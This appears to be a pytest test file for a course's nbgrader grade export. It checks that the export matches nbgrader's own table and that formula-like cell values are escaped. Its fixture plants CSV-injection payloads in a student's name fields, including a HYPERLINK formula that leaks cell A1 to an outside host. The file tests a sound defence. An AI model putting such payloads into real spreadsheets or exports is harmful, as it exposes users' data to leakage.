"""`nbgrader export` with the course's configuration: nbgrader's own table, and no formula in it."""

from __future__ import annotations

import csv
import datetime

import pytest
from classroom import activated
from conftest import ROOT, run
from nbgrader.api import Gradebook


@pytest.fixture
def course(tmp_path):
    (tmp_path / "nbgrader_config.py").write_text((ROOT / "nbgrader_config.py").read_text(encoding="utf-8"))
    with Gradebook(f"sqlite:///{tmp_path / 'gradebook.db'}", "gan-mathematics") as book:
        for name in ("ps1", "ps2"):
            book.add_assignment(name, duedate=datetime.datetime(2030, 1, 1))
            book.add_notebook(name, name)
            book.add_grade_cell("test", name, name, max_score=4, cell_type="code")
        book.add_student("ada", last_name="Lovelace", email="ada@example.org")
        book.add_student("bob", first_name='=HYPERLINK("http://example.org/"&A1)', last_name="+cmd", email="@SUM(1)")
        book.update_or_create_submission("ps1", "ada", timestamp=datetime.datetime(2029, 12, 31))
        book.find_grade("test", "ps1", "ps1", "ada").auto_score = 3
        book.db.commit()
    return tmp_path


def as_number(text):
    try:
        return float(text)
    except ValueError:
        return text


def exported(course, *options):
    with activated():
        done = run("nbgrader", "export", *options, cwd=course)
    assert done.returncode == 0, done.stderr
    with (course / "grades.csv").open(encoding="utf-8", newline="") as stream:
        return list(csv.DictReader(stream))


@pytest.mark.long
def test_the_table_is_nbgraders_own_but_for_formulas(course):
    ours = exported(course)
    theirs = exported(course, "--ExportApp.plugin_class=nbgrader.plugins.CsvExportPlugin")
    assert len(ours) == len(theirs) == 4
    for own, other in zip(ours, theirs, strict=True):
        if own["student_id"] == "ada":
            assert [as_number(value) for value in own.values()] == [as_number(value) for value in other.values()]
        for value in own.values():
            assert not value.startswith(("=", "+", "@", "-"))
    assert [float(row["score"]) for row in ours if row["student_id"] == "ada"] == [3, 0]
    (first_name,) = {row["first_name"] for row in ours if row["student_id"] == "bob"}
    assert first_name == '\'=HYPERLINK("http://example.org/"&A1)'


def test_assignments_and_students_can_be_chosen_as_with_nbgrader(course):
    chosen = exported(course, "--assignment", "['ps1']", "--student", "['ada']")
    assert [(row["assignment"], row["student_id"]) for row in chosen] == [("ps1", "ada")]
